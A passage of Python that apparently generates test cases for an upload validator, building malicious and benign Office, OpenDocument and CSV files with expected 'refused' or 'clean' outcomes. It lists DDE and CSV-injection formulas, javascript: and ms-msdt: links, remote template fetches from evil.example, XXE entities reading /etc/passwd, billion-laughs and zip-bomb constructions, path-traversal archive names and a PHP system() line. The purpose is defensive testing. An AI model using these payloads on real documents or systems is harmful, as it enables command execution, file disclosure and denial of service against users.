    'CALL("urlmon","a","b")', 'REGISTER("a")', 'EXEC("calc")', 'RTD("a",,"b")', 'HYPERLINK("javascript:a","a")', 'HYPERLINK("file:///c:/a.exe")', "'https://evil.example/[a.xlsx]S'!A1", 'DDE("soffice";"a";"b")', "cmd |' /C calc'!A0", 'IF(1,webservice ("x"),2)',
)  # fmt: skip
_GOOD_FORMULAS = (
    "SUM(A1:A9)", 'IF(A1="a|b","|",2)', "'Quý 1'!B2", 'HYPERLINK("https://a.example/","xem")', 'HYPERLINK("#Sheet2!A1","xem")', "VLOOKUP(A1,$B$1:$C$9,2,0)", 'TEXT(A1,"dd/mm/yyyy")', 'CONCATENATE("WEBSERVICE(",A1)', "IMAGENAME(1)",
    'IFERROR(__xludf.DUMMYFUNCTION("IMPORTRANGE(""a"",""b"")"),1)', "CALLOUT1+1", 'INDIRECT("A"&amp;1)', "_xlfn.XLOOKUP(A1,B1:B9,C1:C9)",
)  # fmt: skip
_MACRO = "application/vnd.ms-office.vbaProject"
_FETCHED = (
    "image",
    "oleObject",
    "frame",
    "subDocument",
    "attachedTemplate",
    "mailMergeSource",
    "externalLinkPath",
    "video",
    "audio",
    "customData",
)
_ELSEWHERE = (
    f"https://{EVIL}/a",
    f"http://{EVIL}/a.dotm",
    f"\\\\\\\\{EVIL}\\\\a",
    f"file://{EVIL}/a",
    f"mhtml:http://{EVIL}!x",
    "ftp://evil.example/a",
)
_BAD_LINKS = (
    "javascript:alert(1)",
    "JaVaScRiPt:a",
    "vbscript:a",
    "file:///c:/a.exe",
    f"\\\\{EVIL}\\a",
    "data:text/html,a",
    "ms-msdt:/id",
    "java&#10;script:a",
    "&#1;javascript:a",
    "search-ms:a",
    f"//{EVIL}/a",
)
_GOOD_LINKS = (
    "https://a.example/",
    "http://a.example/?a=1&amp;b=2",
    "mailto:a@b.example",
    "tel:+842193868868",
    "#Muc1",
    "www.so.example",
    "HTTPS://A.EXAMPLE",
    "www.so.example:8080/a",
)


def _ooxml_hazard(random: Random, kind: str) -> tuple[str, dict[str, bytes]]:
    base = _base(kind)
    main, folder = ("word/document.xml", "word") if kind == "docx" else ("xl/workbook.xml", "xl")
    program = random.choice(
        (
            b"MZ\x90\0" + b"x" * 60,
            b"\x7fELF" + b"\0" * 20,
            zipped_parts({"a.exe": b"MZ"}),
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
        )
    )
    hazards: dict[str, Callable[[], dict[str, bytes]]] = {
        "a macro": lambda: _with_typed(base, f"{folder}/vbaProject.bin", b"\xd0\xcf", _MACRO),
        "a macro under another name": lambda: _with_relation(_with_typed(base, f"{folder}/media/a.bin", b"x", _MACRO), main, "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "media/a.bin", ""),
        "a macro by its relation": lambda: _with_relation({**base, f"{folder}/a.bin": b"x"}, main, "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "a.bin", ""),
        "with macros, renamed": lambda: {**base, "[Content_Types].xml": base["[Content_Types].xml"].replace(DOCX_MAIN.encode(), b"application/vnd.ms-word.document.macroEnabled.main+xml").replace(b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml", b"application/vnd.ms-excel.sheet.macroEnabled.main+xml")},
        "ActiveX": lambda: {**base, f"{folder}/activeX/activeX1.xml": b"<a/>"},
        "an object": lambda: {**base, f"{folder}/embeddings/oleObject1.bin": program},
        "a workbook that no chart wants": lambda: {**base, f"{folder}/embeddings/Microsoft_Excel_Sheet1.xlsx": xlsx()},
        "a program as a picture": lambda: {**base, f"{folder}/media/image1.{random.choice(('png', 'jpeg', 'emf', 'bin'))}": program},
        "a page of HTML": lambda: {**base, f"{folder}/{random.choice(('a.html', 'media/image1.png', 'a.xml'))}": b"<html><script>alert(1)</script></html>" if random.random() < 0.5 else b"<!DOCTYPE html><script>a</script>"},
        "a program": lambda: {**base, f"{folder}/a.{random.choice(('exe', 'js', 'vbs', 'HTA', 'lnk', 'ps1'))}": b"x"},
        "fetched": lambda: _with_relation(base, random.choice((main, f"{folder}/settings.xml", f"{folder}/header1.xml", f"{folder}/a/b.xml")), random.choice(_FETCHED), random.choice(_ELSEWHERE)),
        "fetched without saying so": lambda: _with_relation(base, main, "image", f"https://{EVIL}/a.png", ""),
        "a link": lambda: _with_relation(base, random.choice((main, f"{folder}/comments.xml")), "hyperlink", random.choice(_BAD_LINKS)),
        "an altChunk": lambda: _with_relation({**base, f"{folder}/afchunk.mht": b"MIME-Version: 1.0"}, main, "aFChunk", "afchunk.mht", ""),
        "DOCTYPE": lambda: {**base, random.choice((main, f"{folder}/styles.xml", "docProps/core.xml", f"{folder}/other.bin", "customXml/item1.xml")): b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "' + b"c" * 99 + b'"><!ENTITY d SYSTEM "file:///etc/passwd">]><a>&b;&d;</a>'},
        "DOCTYPE in UTF-16": lambda: {**base, f"{folder}/other.xml": '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'.encode("utf-16")},
        "laughs": lambda: {**base, f"{folder}/other.xml": b"<!DOCTYPE a [<!ENTITY a '1234567890'>" + b"".join(f"<!ENTITY b{n} '{f'&b{n - 1};' * 9 if n else '&a;'}'>".encode() for n in range(9)) + b"]><a>&b8;</a>"},
        "ill-formed": lambda: {**base, main: base[main][: len(base[main]) // 2]},
        "no types": lambda: {name: part for name, part in base.items() if name != "[Content_Types].xml"},
        "types that lie": lambda: {**base, "[Content_Types].xml": base["[Content_Types].xml"].replace(b".main+xml", b".template.main+xml")},
        "DDE in data": lambda: {**base, "xl/connections.xml": b"<connections/>"},
        "another workbook": lambda: _with_relation({**base, "xl/externalLinks/externalLink1.xml": b"<externalLink/>"}, "xl/externalLinks/externalLink1.xml", "externalLinkPath", f"https://{EVIL}/a.xlsx"),
        "web query": lambda: {**base, "xl/queryTables/queryTable1.xml": b"<queryTable/>"},
        "a sheet of macros": lambda: _with_typed(base, "xl/sheets/a.xml", b"<macrosheet/>", "application/vnd.ms-excel.macrosheet+xml"),
    }  # fmt: skip
    if kind == "docx":
        hazards |= {
            "a field": lambda: _in_body(base, _field_runs(random, random.choice(_BAD_FIELDS))),
            "a simple field": lambda: _in_body(base, f'<w:p><w:fldSimple w:instr="{random.choice(_BAD_FIELDS).replace(chr(34), "&quot;")}"/></w:p>'),
            "a field in another part": lambda: {**base, f"word/{random.choice(('a/header9.xml', 'footnotes9.xml', 'glossary/document.xml', 'x.dat'))}": f'<w:hdr xmlns:w="{RELATIONS}">{_field_runs(random, "DDEAUTO a b")}</w:hdr>'.encode()},
        }  # fmt: skip
    else:
        hazards |= {
            "a formula": lambda: _in_sheet(base, random.choice(_BAD_FORMULAS)),
            "a formula in a name": lambda: {**base, "xl/workbook.xml": base["xl/workbook.xml"].replace(b"</sheets>", b"</sheets><definedNames><definedName name=\"a\">cmd|'/C calc'!A0</definedName></definedNames>")},
        }  # fmt: skip
    label = random.choice(list(hazards))
    return label, hazards[label]()


def _ooxml_honest(random: Random, kind: str) -> tuple[str, dict[str, bytes]]:
    base = _base(kind)
    main, folder = ("word/document.xml", "word") if kind == "docx" else ("xl/workbook.xml", "xl")
    chart = {
        **base,
        "word/charts/chart1.xml": b'<c:chartSpace xmlns:c="c"><c:v>12</c:v></c:chartSpace>',
        "word/embeddings/Microsoft_Excel_Sheet1.xlsx": zipped_parts(_base("xlsx")),
    }
    honest: dict[str, Callable[[], dict[str, bytes]]] = {
        "as made": lambda: dict(base),
        "a link": lambda: _with_relation(base, main, "hyperlink", random.choice(_GOOD_LINKS)),
        "a thumbnail": lambda: {**base, "docProps/thumbnail.jpeg": b"\xff\xd8\xff\xe0" + b"x" * 90},
        "printer settings": lambda: {**base, f"{folder}/printerSettings/printerSettings1.bin": "Canon LBP2900".encode("utf-16-le") + b"\0" * 400},
        "a signature": lambda: _with_typed(base, "_xmlsignatures/sig1.xml", b"<Signature/>", "application/vnd.openxmlformats-package.digital-signature-xmlsignature+xml"),
        "fonts": lambda: {**base, f"{folder}/fonts/font1.odttf": bytes(range(256)) * 4},
        "a picture": lambda: _with_relation({**base, f"{folder}/media/image1.png": b"\x89PNG\r\n\x1a\n" + b"x" * 50}, main, "image", "media/image1.png", ""),
        "a picture that went lost": lambda: _with_relation(base, main, "image", "NULL"),
        "properties": lambda: _with_typed(base, "docProps/custom.xml", b'<Properties xmlns:vt="v"><property name="KSOProductBuildVer"><vt:lpwstr>1033-11.2.0</vt:lpwstr></property></Properties>', "application/vnd.openxmlformats-officedocument.custom-properties+xml"),
        "custom XML": lambda: {**base, "customXml/item1.xml": '<?xml version="1.0" encoding="utf-16"?><a/>'.encode("utf-16")},
        "folders": lambda: {f"{folder}/": b"", **base},
        "a drawing with a break": lambda: {**base, f"{folder}/drawings/vmlDrawing9.vml": b"<xml><div>a<br>b</div></xml>"},
        "stored": lambda: dict(base),
    }  # fmt: skip
    if kind == "docx":
        honest |= {
            "a field": lambda: _in_body(base, _field_runs(random, random.choice(_GOOD_FIELDS)).replace("<w:instrText>PAGE</w:instrText>", "")),
            "words about fields": lambda: _in_body(base, "<w:p><w:r><w:t>DDEAUTO cmd.exe, vbaProject.bin, INCLUDEPICTURE</w:t></w:r></w:p>"),
            "its own template": lambda: _with_relation(base, "word/settings.xml", "attachedTemplate", random.choice(("file:///C:\\Users\\Admin\\AppData\\Roaming\\Microsoft\\Templates\\ND30.dotx", "file:///D:/Mau/Bao%20cao.dotx"))),
            "a chart": lambda: _with_relation(chart, "word/charts/chart1.xml", "package", "../embeddings/Microsoft_Excel_Sheet1.xlsx", ""),
            "changes tracked": lambda: _in_body(base, '<w:p><w:del w:author="Văn phòng"><w:r><w:delText>chữ bỏ</w:delText></w:r></w:del></w:p>'),
            "comments": lambda: {**base, "word/comments.xml": '<w:comments xmlns:w="w"><w:comment w:author="Văn phòng"><w:p><w:r><w:t>Xem lại</w:t></w:r></w:p></w:comment></w:comments>'.encode()},
        }  # fmt: skip
    else:
        honest |= {
            "a formula": lambda: _in_sheet(base, random.choice(_GOOD_FORMULAS)),
            "boxes to tick": lambda: _with_typed(base, "xl/ctrlProps/ctrlProp1.xml", b'<formControlPr objectType="CheckBox" checked="Checked"/>', "application/vnd.ms-excel.controlproperties+xml"),
            "a hidden sheet": lambda: {**base, "xl/workbook.xml": base["xl/workbook.xml"].replace(b"<sheet ", b'<sheet state="veryHidden" ', 1)},
            "a name": lambda: {**base, "xl/workbook.xml": base["xl/workbook.xml"].replace(b"</sheets>", b"</sheets><definedNames><definedName name=\"_xlnm.Print_Area\">'a|b'!$A$1:$C$9</definedName></definedNames>")},
        }  # fmt: skip
    label = random.choice(list(honest))
    return label, honest[label]()


_ODT_BAD = (
    "<script:event-listener/>", "<office:event-listeners><script:event-listener xlink:href='vnd.sun.star.script:a'/></office:event-listeners>", f"<draw:image xlink:href='https://{EVIL}/a.png'/>",
    "<draw:object-ole xlink:href='./Object 1'/>", "<text:a xlink:href='javascript:a'>a</text:a>", "<text:a xlink:href='vnd.sun.star.script:a'>a</text:a>", "<text:dde-connection-decl/>", "<office:dde-source/>",
    f"<text:section-source xlink:href='//{EVIL}/a.odt'/>", "<draw:floating-frame xlink:href='a.html'/>", "<draw:plugin xlink:href='a'/>", "<draw:applet/>", "<text:script script:language='JavaScript'>a</text:script>",
    f"<form:form xlink:href='https://{EVIL}/'/>", "<table:table-cell xmlns:table='t' table:formula='of:=DDE(&quot;soffice&quot;;&quot;a&quot;;&quot;b&quot;)'/>", "<table:table-cell xmlns:table='t' table:formula='of:=WEBSERVICE(&quot;http://a&quot;)'/>",
    "<text:a xlink:href='file:///c:/a.exe'>a</text:a>", "<draw:image xlink:href='../../a.png'/>", "<draw:image xlink:href='file:///etc/passwd'/>", "<draw:image xlink:href='\\\\a\\b'/>",
)  # fmt: skip
_ODT_GOOD = (
    "<text:a xlink:href='https://a.example/'>a</text:a>", "<text:a xlink:href='mailto:a@b.example'>a</text:a>", "<text:a xlink:href='#Muc'>a</text:a>", "<text:a xlink:href='../bao-cao.odt'>a</text:a>", "<draw:image xlink:href='Pictures/a.png'/>",
    "<draw:object xlink:href='./Object 1'/>", "<form:form xlink:href=''/>", "<office:scripts/>", "<text:p>macro, script:event-listener</text:p>", "<text:p>Số<text:bookmark-start/> 12<text:s/>điểm</text:p>", "<office:annotation><text:p>ghi chú</text:p></office:annotation>",
)  # fmt: skip


def _odt_case(random: Random, *, is_bad: bool) -> tuple[str, dict[str, bytes]]:
    def parts(body: str = "<text:p>Thi đua</text:p>", **more: bytes) -> dict[str, bytes]:
        with zipfile.ZipFile(io.BytesIO(odt(body))) as archive:
            return {name: archive.read(name) for name in archive.namelist()} | more

    inner = "<office:document-content xmlns:office='o' xmlns:xlink='x' xmlns:draw='d' xmlns:script='s' xmlns:text='t' xmlns:form='f'>{}</office:document-content>"
    body = random.choice(_ODT_BAD if is_bad else _ODT_GOOD)
    bad: dict[str, Callable[[], dict[str, bytes]]] = {
        body: lambda: parts(body),
        f"in an object: {body}": lambda: {**parts(), "Object 1/content.xml": inner.format(body).encode()},
        f"in the styles: {body}": lambda: {**parts(), "styles.xml": inner.format(body).encode()},
        "Basic": lambda: {**parts(), "Basic/Standard/Module1.xml": b"<a/>"},
        "Python": lambda: {**parts(), "Scripts/python/a.py": b"a"},
        "encrypted": lambda: {**parts(), "META-INF/manifest.xml": b"<m:manifest xmlns:m='m'><m:file-entry><m:encryption-data/></m:file-entry></m:manifest>"},
        "a template elsewhere": lambda: {**parts(), "meta.xml": _ODF_META.format(f"<meta:template xlink:href='https://{EVIL}/a.ott'/>").encode()},
        "loads again": lambda: {**parts(), "meta.xml": _ODF_META.format(f"<meta:auto-reload xlink:href='https://{EVIL}/a'/>").encode()},
        "no mimetype": lambda: {name: part for name, part in parts().items() if name != "mimetype"},
        "a sheet's mimetype": lambda: {**parts(), "mimetype": b"application/vnd.oasis.opendocument.spreadsheet"},
        "DOCTYPE": lambda: {**parts(), "settings.xml": b"<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>"},
        "a program": lambda: {**parts(), "Pictures/a.png": b"MZ\x90\0"},
    }  # fmt: skip
    good: dict[str, Callable[[], dict[str, bytes]]] = {
        body: lambda: parts(body),
        f"in an object: {body}": lambda: {**parts(), "Object 1/content.xml": inner.format(body).encode()},
        "its own template": lambda: {**parts(), "meta.xml": _ODF_META.format(f"<meta:template xlink:href='{random.choice(('../../AppData/Roaming/LibreOffice/4/user/template/a.ott', 'file:///C:/Mau/a.ott', '/usr/lib/a.ott'))}'/>").encode()},
        "settings of the window": lambda: {**parts(), "Configurations2/accelerator/current.xml": b"", "layout-cache": b"\0\1\2", "Thumbnails/thumbnail.png": b"\x89PNG\r\n\x1a\nx"},
        "a signature": lambda: {**parts(), "META-INF/documentsignatures.xml": b"<document-signatures/>"},
        "facts about itself": lambda: {**parts(), "manifest.rdf": b"<rdf:RDF xmlns:rdf='r'/>"},
    }  # fmt: skip
    cases = bad if is_bad else good
    label = random.choice(list(cases)) if random.random() < 0.6 else body
    return label, cases[label]()


def _archive_trick(random: Random, kind: str) -> tuple[str, Outcome, bytes]:
    """Return an archive that lies about itself, or holds more than it should."""
    base = dict(_base(kind))
    good = zipped_parts(base)
    name = random.choice([one for one in base if one != "mimetype"])
    central = good.index(b"PK\x01\x02")

    def with_entry(entry: zipfile.ZipInfo | str, content: bytes = b"x", **more: int) -> bytes:
        out = io.BytesIO(good)
        with zipfile.ZipFile(out, "a") as archive:
            archive.writestr(entry, content, **more)
        return out.getvalue()

    def link() -> bytes:
        entry = zipfile.ZipInfo("a.xml")
        entry.create_system, entry.external_attr = 3, 0o120777 << 16
        return with_entry(entry, b"/etc/passwd")

    def twice() -> bytes:
        import warnings

        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            return with_entry(random.choice((name, name.upper(), name.title())), b"<a/>")

    def lies(at: int, value: bytes, *, in_central: bool) -> bytes:
        made = bytearray(good)
        start = central if in_central else 0
        made[start + at : start + at + len(value)] = value
        return bytes(made)

    def overlapping() -> bytes:
        """Two entries of the table point at one part: as a bomb by Fifield does."""
        first = good[central : good.index(b"PK\x01\x02", central + 4)]
        length = int.from_bytes(first[28:30], "little")
        other = first[:46] + bytes([first[46] ^ 1]) + first[47 : 46 + length] + first[46 + length :]
        end = good.rindex(b"PK\x05\x06")
        table = good[central:end] + other
        tail = bytearray(good[end:])
        count = int.from_bytes(tail[8:10], "little") + 1
        tail[8:12] = count.to_bytes(2, "little") * 2
        tail[12:16] = len(table).to_bytes(4, "little")
        return good[:central] + table + bytes(tail)

    def between() -> bytes:
        """Something that no table tells of, between the last part and the table."""
        end = good.rindex(b"PK\x05\x06")
        junk = b"PK\x03\x04" + b"an" * 40
        tail = bytearray(good[end:])
        tail[16:20] = (central + len(junk)).to_bytes(4, "little")
        return good[:central] + junk + good[central:end] + bytes(tail)

    def streamed() -> bytes:
        """As programs write that cannot go back: sizes stand behind each part."""

        class Forward(io.RawIOBase):
            def __init__(self) -> None:
                self.data = bytearray()

            def writable(self) -> bool:
                return True

            def write(self, piece: bytes) -> int:  # type: ignore[override]
                self.data += piece
                return len(piece)

        out = Forward()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:  # type: ignore[arg-type]
            for part, content in base.items():
                archive.writestr(part, content)
        return bytes(out.data)

    tricks: dict[str, tuple[Outcome, Callable[[], bytes]]] = {
        "cut": ("refused", lambda: good[: random.randrange(5, len(good) - 1)]),
        "something before": ("refused", lambda: random.choice((b"MZ\x90\0", b"%PDF-1.4\n", b"<html>", b"PK\x03\x04", b"\n")) + good),
        "something behind": ("refused", lambda: good + random.choice((b"<script>", b"x", good, b"\0" * 30))),
        "a comment": ("refused", lambda: good[:-2] + b"\x09\0<script>a"),
        "a link": ("refused", link),
        "a name that climbs": ("refused", lambda: with_entry(random.choice(("../a.xml", "a/../../b", "/etc/passwd", "c:/a.exe", "a\\..\\b", "..\\a", "a\x01b")))),
        "twice": ("refused", twice),
        "overlapping": ("refused", overlapping),
        "between": ("refused", between),
        "a bomb": ("refused", lambda: with_entry("a.xml", b"\0" * random.choice((5_000_000, 40_000_000)), compress_type=zipfile.ZIP_DEFLATED)),
        "another packing": ("refused", lambda: with_entry("a.xml", b"<a/>", compress_type=random.choice((zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA)))),
        "many parts": ("refused", lambda: zipped_parts({**base, **{f"a{at}": b"" for at in range(5100)}})),
        "wrong sum": ("refused", lambda: lies(14, random.randbytes(4), in_central=False)[:central].replace(b"", b"") + lies(16, b"\1\2\3\4", in_central=True)[central:]),
        "wrong size in the table": ("refused", lambda: lies(24, b"\x05\0\0\0", in_central=True)),
        "wrong size at the part": ("refused", lambda: lies(22, b"\x05\0\0\0", in_central=False)),
        "wrong name at the part": ("refused", lambda: lies(30, b"X", in_central=False)),
        "a password at the part": ("refused", lambda: lies(6, b"\1", in_central=False)),
        "a password": ("refused", lambda: lies(8, b"\1", in_central=True)),
        "only an archive": ("refused", lambda: zipped_parts({"a.txt": b"a"})),
        "streamed": ("clean", streamed),
        "stored": ("clean", lambda: zipped_parts(base, way=zipfile.ZIP_STORED)),
        "another order": ("clean", lambda: zipped_parts(dict(random.sample(list(base.items()), len(base))))),
    }  # fmt: skip
    label = random.choice(list(tricks))
    outcome, make = tricks[label]
    return label, outcome, make()


def _says_somewhere(random: Random, kind: str, told: str) -> tuple[str, bytes]:
    base = _base(kind)
    if kind == "odt":
        places = {
            "body": odt(f"<text:p>Số <text:bookmark-start/>{told}</text:p>"),
            "cell": odt(f"<table:table-cell xmlns:table='t'><text:p>{told}</text:p></table:table-cell>"),
            "note": odt(f"<office:annotation><text:p>{told}</text:p></office:annotation>"),
            "header": odt(more={"styles.xml": f"<office:document-styles xmlns:office='o' xmlns:text='t'><text:p>{told}</text:p></office:document-styles>"}),
            "itself": odt(more={"meta.xml": _ODF_META.format(f"<dc:description>Số {told}</dc:description>")}),
        }  # fmt: skip
    elif kind == "docx":
        document = 'xmlns:w="w" xmlns:a="a"'

        def body(xml: str) -> bytes:
            return zipped_parts(_in_body(base, xml))

        def part(name: str, root: str, xml: str) -> bytes:
            return zipped_parts({**base, name: f"<w:{root} {document}>{xml}</w:{root}>".encode()})

        half = len(told) // 2
        paragraph = f"<w:p><w:r><w:t>Số {told}</w:t></w:r></w:p>"
        places = {
            "body": body(f"<w:p><w:r><w:t>Số {told[:half]}</w:t></w:r><w:r><w:t>{told[half:]}</w:t></w:r></w:p>"),
            "hidden": body(f"<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>{told}</w:t></w:r></w:p>"),
            "struck": body(f"<w:p><w:del><w:r><w:delText>{told}</w:delText></w:r></w:del></w:p>"),
            "header": part("word/header9.xml", "hdr", paragraph),
            "footnote": part("word/footnotes9.xml", "footnotes", paragraph),
            "endnote": part("word/endnotes9.xml", "endnotes", paragraph),
            "comment": part("word/comments.xml", "comments", f"<w:comment>{paragraph}</w:comment>"),
            "chart": zipped_parts({**base, "word/charts/chart1.xml": f'<c:chartSpace xmlns:c="c"><c:v>{told}</c:v></c:chartSpace>'.encode()}),
            "diagram": zipped_parts({**base, "word/diagrams/data1.xml": f'<d:dataModel xmlns:d="d" xmlns:a="a"><a:t>{told}</a:t></d:dataModel>'.encode()}),
            "itself": zipped_parts({**base, "docProps/core.xml": f'<c:coreProperties xmlns:c="c" xmlns:dc="d"><dc:description>Số {told}</dc:description></c:coreProperties>'.encode()}),
            "instead of a picture": body(f'<w:p><w:r><w:drawing><wp:docPr xmlns:wp="wp" descr="Số {told}"/></w:drawing></w:r></w:p>'),
        }  # fmt: skip
    else:

        def sheet(cells: str, more: Mapping[str, bytes] = {}) -> bytes:
            return xlsx(cells, more=dict(more))

        strings = f'<sst xmlns="s"><si><t>Tên</t></si><si><r><t>{told[:5]}</t></r><r><t>{told[5:]}</t></r></si></sst>'.encode()
        places = {
            "inline": sheet(f'<c t="inlineStr"><is><t>{told}</t></is></c>'),
            "shared": sheet('<c t="s"><v>0</v></c><c t="s"><v>1</v></c>', {"xl/sharedStrings.xml": strings}),
            "shared, used by none": sheet('<c t="s"><v>0</v></c>', {"xl/sharedStrings.xml": strings}),
            "formula's result": sheet(f'<c t="str"><f>A1</f><v>{told}</v></c>'),
            "another sheet": sheet("<c/>", {"xl/worksheets/sheet2.xml": f'<worksheet xmlns="s"><sheetData><row><c t="inlineStr"><is><t>{told}</t></is></c></row></sheetData></worksheet>'.encode()}),
            "comment": sheet("<c/>", {"xl/comments1.xml": f'<comments xmlns="c"><comment><text><t>Số {told}</t></text></comment></comments>'.encode()}),
            "thread": sheet("<c/>", {"xl/threadedComments/threadedComment1.xml": f'<ThreadedComments xmlns="c"><threadedComment><text>Số {told}</text></threadedComment></ThreadedComments>'.encode()}),
            "pivot": sheet("<c/>", {"xl/pivotCache/pivotCacheDefinition1.xml": f'<pivotCacheDefinition xmlns="c"><sharedItems><s v="{told}"/></sharedItems></pivotCacheDefinition>'.encode()}),
            "drawing": sheet("<c/>", {"xl/drawings/drawing1.xml": f'<xdr:wsDr xmlns:xdr="x" xmlns:a="a"><a:t>{told}</a:t></xdr:wsDr>'.encode()}),
            "sheet's name": sheet("<c/>", {"xl/workbook.xml": f'<workbook xmlns="w"><sheets><sheet name="Số {told}"/></sheets></workbook>'.encode()}),
            "header": sheet('</row></sheetData><headerFooter><oddHeader>&amp;LSố ' + told + "</oddHeader></headerFooter><sheetData><row>"),
        }  # fmt: skip
    place = random.choice(list(places))
    return place, places[place]


def office(random: Random, number: int) -> Case:
    """Office documents that run, fetch, hide or lie, and honest ones."""
    kind = random.choice(("docx", "docx", "xlsx", "xlsx", "odt"))
    what = random.choice(
        ("hazard", "hazard", "hazard", "honest", "honest", "archive", "archive", "says", "says", "other")
    )
    match what:
        case "hazard" | "honest":
            is_bad = what == "hazard"
            label, parts = (
                _odt_case(random, is_bad=is_bad)
                if kind == "odt"
                else (_ooxml_hazard if is_bad else _ooxml_honest)(random, kind)
            )
            way = zipfile.ZIP_STORED if label == "stored" else zipfile.ZIP_DEFLATED
            return _case(
                "office",
                number,
                f"{what} {label}",
                "refused" if is_bad else "clean",
                kind,
                zipped_parts(parts, way=way),
            )
        case "archive":
            label, outcome, raw = _archive_trick(random, kind)
            return _case("office", number, label, outcome, kind, raw)
        case "says":
            told, outcome = random.choice(((CITIZEN, "refused"), (HARMLESS_NUMBER, "clean")))
            place, raw = _says_somewhere(random, kind, told)
            return _case("office", number, f"says {told} in {place}", outcome, kind, raw)
    raw = random.choice(
        (b"", b"P", b"{\\rtf1 a}", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"),
         b"<html>", made_pdf(), docx() if kind != "docx" else xlsx(), odt() if kind != "odt" else docx(), b"\x89PNG\r\n\x1a\n", "Chữ".encode(), b"PK\x03\x04", b"PK\x05\x06" + b"\0" * 18)
    )  # fmt: skip
    return _case("office", number, f"another kind {raw[:8]!r}", "refused", kind, raw)


# Tables and calendars

_BAD_CELLS = (
    "=1+1", "=cmd|'/C calc'!A0", '=HYPERLINK(""https://evil.example"")', "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|'/C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", " =1", "=@SUM(A1)", "+SUM(A1:A2)",
    "-HYPERLINK(A1)", "＝1+1", "=A1", "+A1+B1", "-A1*2", "+1+1", "+Sheet2!A1", "=IMPORTXML(CONCAT(1))", "@cmd|' /C calc'!A0", "\ufeff=1+1", "＋SUM(1)", "＠SUM(1)", "+(1*2)", "-2*3",
)  # fmt: skip
_GOOD_CELLS = (
    "-12", "-3,5%", "+84912", "+84 1900 1091", "+84-1900", "-", "--", "+", "- Họp giao ban (sáng thứ Hai)", "+ Khen thưởng: 12 tập thể", "-Văn phòng", "@sotttt", "a=b", "1+1", "===", "- không có", "+5%",
    "-1.200.000 đồng", "(-5)", "'12", "A4", "+ Điểm (a), (b)", "- Sở TT&TT (đầu mối); UBND huyện", "-0.5", "+2.000.000", "= ", "vanphong@so.example", "-5 độ C", "+/-",
)  # fmt: skip


def tables(random: Random, number: int) -> Case:
    """CSV with formulas, other contents or other letters, and honest tables."""
    delimiter = random.choice(",,;\t")
    head = delimiter.join(("Đơn vị", "Số lượng", "Ghi chú"))
    bom = random.choice(("", "\ufeff"))
    line = random.choice(("\r\n", "\n"))

    def table(cell: str, *, quoted: bool) -> bytes:
        if quoted or delimiter in cell:
            cell = f'"{cell}"'
        before = random.choice(("", f"Văn phòng{delimiter}", f"Văn phòng{delimiter}12{delimiter}"))
        return f"{bom}{head}{line}Phòng{delimiter}3{line}{before}{cell}{delimiter}{line}".encode()

    kind = random.choice(("bad", "bad", "bad", "good", "good", "good", "other", "other", "says"))
    match kind:
        case "bad":
            cell = random.choice(_BAD_CELLS)
            return _case(
                "tables",
                number,
                f"{cell!r} {delimiter!r}",
                "refused",
                "csv",
                table(cell, quoted='"' in cell or random.random() < 0.4),
            )
        case "good":
            cell = random.choice(_GOOD_CELLS)
            return _case(
                "tables", number, f"{cell!r} {delimiter!r}", "clean", "csv", table(cell, quoted=random.random() < 0.3)
            )
        case "says":
            told, outcome = random.choice(((CITIZEN, "refused"), (HARMLESS_NUMBER, "clean")))
            return _case("tables", number, f"says {told}", outcome, "csv", table(f"Số {told}", quoted=True))
    text = f"{head}{line}Phòng{delimiter}3{line}"
    others: dict[str, tuple[Outcome, bytes]] = {
        "UTF-16": ("refused", text.encode("utf-16")),
        "windows-1258": ("refused", "Đơn vị,Số\nPhòng,3\n".encode("windows-1258", "replace").replace(b"?", b"\xd2")),
        "TCVN3": ("refused", b"\xa7\xacn v\xde,S\xe8\nPh\xdfng,3\n"),
        "another kind": ("refused", random.choice((b"", b"MZ\x90\0", made_pdf(), zipped_parts({"a": b"b"}), b"\x89PNG\r\n\x1a\n", b"BM\x36\0\0\0\0\0\0\0\x36\0\0\0\x28\0", b"{\\rtf1}", b"\0" * 9))),
        "a NUL": ("refused", text.encode() + b"a\0b\n"),
        "a NUL far behind": ("refused", (text * 400).encode() + b"a\0b\n"),
        "HTML": ("refused", random.choice((b"<html><table></table>", text.encode() + b"a,<script>alert(1)</script>\n", b"<!DOCTYPE html>", text.encode() + b"<?php system(1) ?>\n"))),
        "a quote that stays open": ("refused", text.encode() + b'"a\nb\n'),
        "a field without end": ("refused", text.encode() + b'"' + b"a" * 200_000 + b'"\n'),
        "a formula for another machine": ("refused", "Đơn vị,Số\na;=1+1,2\n".encode()),
        "a delimiter of its own": ("refused", "sep=|\nĐơn vị|=1+1\n".encode()),
        "a delimiter told": ("clean", "sep=;\nĐơn vị;Số\n".encode()),
        "ragged": ("clean", text.encode() + b"a\nb,c,d,e,f\n\n\n"),
        "old Macintosh": ("clean", text.replace(line, "\r").encode()),
        "form numbers": ("clean", f"{random.choice(('BM01', 'BMNN', 'MZ1', 'ID3'))},Tên\n1,Biểu mẫu\n".encode()),
        "quotes by hand": ("clean", 'Tên,Số\n"Sở" Nội vụ,12\nống 5" dài,3" x\n'.encode()),
        "many rows": ("clean", text.encode() + b"a,1,b\n" * 50_000),
        "one column": ("clean", "Đơn vị\nVăn phòng\n".encode()),
        "lines in a cell": ("clean", 'Đơn vị,Ghi chú\nPhòng,"dòng một\n- dòng hai (a)\n+ dòng ba"\n'.encode()),
    }  # fmt: skip
    label = random.choice(list(others))
    return _case("tables", number, label, others[label][0], "csv", others[label][1])


